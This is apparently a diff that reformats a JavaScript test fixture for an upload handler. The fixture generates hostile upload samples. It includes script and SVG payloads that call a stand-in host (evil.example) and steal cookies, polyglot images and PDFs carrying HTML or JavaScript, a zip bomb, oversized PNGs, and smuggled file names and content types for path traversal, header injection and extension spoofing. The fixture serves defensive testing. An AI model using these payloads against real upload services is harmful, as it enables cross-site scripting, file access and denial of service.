@@ -4,7 +4,8 @@ import sharp from "sharp";
 /** What must never come back: a script, in whatever dress. Each file carries it with a number of its own. */
 export const canary = (number) => `hostile-mark-${number}-`;
 const script = (number) => `<script>fetch("//evil.example/${canary(number)}")</script>`;
-const svg = (number) => `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary(number)}')">${script(number)}</svg>`;
+const svg = (number) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary(number)}')">${script(number)}</svg>`;
 const html = (number) => `<!doctype html><html><body onload="alert(1)">${script(number)}</body></html>`;
 const js = (number) => `/*${canary(number)}*/alert(document.cookie)//`;
 
@@ -17,7 +18,8 @@ const randomImage = (random) =>
       background: { r: Math.floor(random.between(0, 255)), g: 90, b: 120 },
     },
   });
-const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));
+const bytes = (...parts) =>
+  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));
 
 function chunk(type, data) {
   const head = Buffer.alloc(8);
@@ -28,7 +30,10 @@ function chunk(type, data) {
   return Buffer.concat([head, data, sum]);
 }
 
-/** A PNG that says it is `width` × `height`, with the rows of `real` lines in it; what else it carries goes before its end. */
+/**
+ * A PNG that says it is `width` × `height`, with the rows of `real` lines in it; what else it carries goes before its
+ * end.
+ */
 function png(width, height, real, ...more) {
   const head = Buffer.alloc(13);
   head.writeUInt32BE(width, 0);
@@ -39,14 +44,22 @@ function png(width, height, real, ...more) {
 }
 
 /** An archive that unpacks to 64 MB, under any name. */
-const createZipBomb = () => bytes("PK\x03\x04\x14\0\0\0\x08\0", deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }));
-const exif = (image, number) => image.withExif({ IFD0: { Copyright: script(number), ImageDescription: html(number), Artist: `${canary(number)}"><img src=x onerror=alert(1)>` } });
+const createZipBomb = () =>
+  bytes("PK\x03\x04\x14\0\0\0\x08\0", deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }));
+const exif = (image, number) =>
+  image.withExif({
+    IFD0: {
+      Copyright: script(number),
+      ImageDescription: html(number),
+      Artist: `${canary(number)}"><img src=x onerror=alert(1)>`,
+    },
+  });
 
 /** Each makes the bytes of one kind of file. */
 const CONTENTS = {
-  "HTML": (number) => bytes(html(number)),
-  "SVG": (number) => bytes(`<?xml version="1.0"?>${svg(number)}`),
-  "script": (number) => bytes(js(number)),
+  HTML: (number) => bytes(html(number)),
+  SVG: (number) => bytes(`<?xml version="1.0"?>${svg(number)}`),
+  script: (number) => bytes(js(number)),
   "HTML behind a byte order mark": (number) => bytes("\xef\xbb\xbf", html(number)),
   "HTML behind a PNG's first bytes": (number) => bytes("\x89PNG\r\n\x1a\n", html(number)),
   "HTML behind a JPEG's first bytes": (number) => bytes("\xff\xd8\xff\xe0", html(number)),
@@ -54,7 +67,13 @@ const CONTENTS = {
   "GIF with HTML after it": async (number, random) => bytes(await randomImage(random).gif().toBuffer(), html(number)),
   "GIF with a comment": async (number, random) => {
     const image = await randomImage(random).gif().toBuffer();
-    return bytes(image.subarray(0, -1), "\x21\xfe", String.fromCharCode(Math.min(255, script(number).length)), script(number), "\0;");
+    return bytes(
+      image.subarray(0, -1),
+      "\x21\xfe",
+      String.fromCharCode(Math.min(255, script(number).length)),
+      script(number),
+      "\0;",
+    );
   },
   "JPEG with HTML after it": async (number, random) => bytes(await randomImage(random).jpeg().toBuffer(), html(number)),
   "JPEG with a comment": async (number, random) => {
@@ -65,37 +84,97 @@ const CONTENTS = {
   "WebP with EXIF": (number, random) => exif(randomImage(random).webp(), number).toBuffer(),
   "WebP with HTML after it": async (number, random) => bytes(await randomImage(random).webp().toBuffer(), html(number)),
   "RIFF that is no WebP": (number) => bytes("RIFF\x40\0\0\0WEBP", html(number)),
-  "PNG with text": (number) => png(8, 8, 8, chunk("tEXt", Buffer.from(`Comment\0${script(number)}`)), chunk("iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${svg(number)}`))),
+  "PNG with text": (number) =>
+    png(
+      8,
+      8,
+      8,
+      chunk("tEXt", Buffer.from(`Comment\0${script(number)}`)),
+      chunk("iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${svg(number)}`)),
+    ),
   "PNG with HTML after it": async (number, random) => bytes(await randomImage(random).png().toBuffer(), html(number)),
-  "PNG with a wrong sum": (number) => { const image = png(8, 8, 8, chunk("tEXt", Buffer.from(canary(number)))); image[image.length - 1] ^= 255; return image; },
+  "PNG with a wrong sum": (number) => {
+    const image = png(8, 8, 8, chunk("tEXt", Buffer.from(canary(number))));
+    image[image.length - 1] ^= 255;
+    return image;
+  },
   "PNG of far too many pixels": () => png(60_000, 60_000, 2_000),
   "PNG that says more than it holds": () => png(30_000, 30_000, 10),
   "PNG just under the limit": () => png(7_000, 7_000, 7_000),
   "PNG without a size": () => png(0, 0, 1),
-  "cut off JPEG": async (number, random) => { const image = exif(randomImage(random).jpeg(), number); const whole = await image.toBuffer(); return whole.subarray(0, Math.floor(whole.length * random.between(0.1, 0.95))); },
-  "cut off PNG": async (number, random) => { const whole = await randomImage(random).png().toBuffer(); return whole.subarray(0, Math.floor(whole.length * random.between(0.2, 0.95))); },
-  "nothing": () => Buffer.alloc(0),
+  "cut off JPEG": async (number, random) => {
+    const image = exif(randomImage(random).jpeg(), number);
+    const whole = await image.toBuffer();
+    return whole.subarray(0, Math.floor(whole.length * random.between(0.1, 0.95)));
+  },
+  "cut off PNG": async (number, random) => {
+    const whole = await randomImage(random).png().toBuffer();
+    return whole.subarray(0, Math.floor(whole.length * random.between(0.2, 0.95)));
+  },
+  nothing: () => Buffer.alloc(0),
   "one byte": () => Buffer.from([255]),
   "archive that grows": createZipBomb,
-  "PDF with a script": (number) => bytes(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${canary(number)}"))>>>>endobj\n${html(number)}\n%%EOF`),
+  "PDF with a script": (number) =>
+    bytes(
+      `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${canary(number)}"))>>>>endobj\n${html(number)}\n%%EOF`,
+    ),
   "PDF and HTML at once": (number) => bytes(`%PDF-1.4\n<!--\n-->${html(number)}`),
   "PDF behind HTML": (number) => bytes(`${html(number)}%PDF-1.4`),
 };
 
 const NAMES = [
-  (number) => `picture-${number}.png`, () => "index.html", () => "picture.svg", () => "picture.png.html", () => "picture.jpg\0.html", () => "../../../app/page.tsx", () => "..\\..\\windows\\win.ini",
-  () => "/etc/passwd", () => "picture\u202egnp.exe", () => `${"a".repeat(5_000)}.png`, () => "con.png", () => ".htaccess", () => "", () => "%2e%2e%2f%2e%2e%2fx.html", () => "picture.png\r\nX-Injected: yes",
-  () => "picture\";filename=\"other.html", () => "<img src=x onerror=alert(1)>.png", () => "🙂\u0000\u2028.pdf", () => "document.pdf", () => "a.pdf/../../b.html",
+  (number) => `picture-${number}.png`,
+  () => "index.html",
+  () => "picture.svg",
+  () => "picture.png.html",
+  () => "picture.jpg\0.html",
+  () => "../../../app/page.tsx",
+  () => "..\\..\\windows\\win.ini",
+  () => "/etc/passwd",
+  () => "picture\u202egnp.exe",
+  () => `${"a".repeat(5_000)}.png`,
+  () => "con.png",
+  () => ".htaccess",
+  () => "",
+  () => "%2e%2e%2f%2e%2e%2fx.html",
+  () => "picture.png\r\nX-Injected: yes",
+  () => 'picture";filename="other.html',
+  () => "<img src=x onerror=alert(1)>.png",
+  () => "🙂\u0000\u2028.pdf",
+  () => "document.pdf",
+  () => "a.pdf/../../b.html",
 ];
-const TYPES = ["image/png", "image/jpeg", "text/html", "image/svg+xml", "application/javascript", "text/html; charset=utf-7", "application/pdf", "", "image/png\r\nX-Injected: yes", "multipart/form-data", "x".repeat(3_000), "image/png; name=\"<script>\"", "application/xhtml+xml", "\0"];
+const TYPES = [
+  "image/png",
+  "image/jpeg",
+  "text/html",
+  "image/svg+xml",
+  "application/javascript",
+  "text/html; charset=utf-7",
+  "application/pdf",
+  "",
+  "image/png\r\nX-Injected: yes",
+  "multipart/form-data",
+  "x".repeat(3_000),
+  'image/png; name="<script>"',
+  "application/xhtml+xml",
+  "\0",
+];
 
 /** A form with one file in it, written by hand: no client would send some of these. */
 function multipartBody(content, name, type, broken) {
   const boundary = "----hostile";
   const whole = Buffer.concat([
-    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n${type ? `Content-Type: ${type}\r\n` : ""}\r\n`), content, Buffer.from(`\r\n--${boundary}--\r\n`),
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n${type ? `Content-Type: ${type}\r\n` : ""}\r\n`,
+    ),
+    content,
+    Buffer.from(`\r\n--${boundary}--\r\n`),
   ]);
-  return { body: broken ? whole.subarray(0, whole.length - 20) : whole, contentType: `multipart/form-data; boundary=${boundary}` };
+  return {
+    body: broken ? whole.subarray(0, whole.length - 20) : whole,
+    contentType: `multipart/form-data; boundary=${boundary}`,
+  };
 }
 
 const KINDS = Object.entries(CONTENTS);
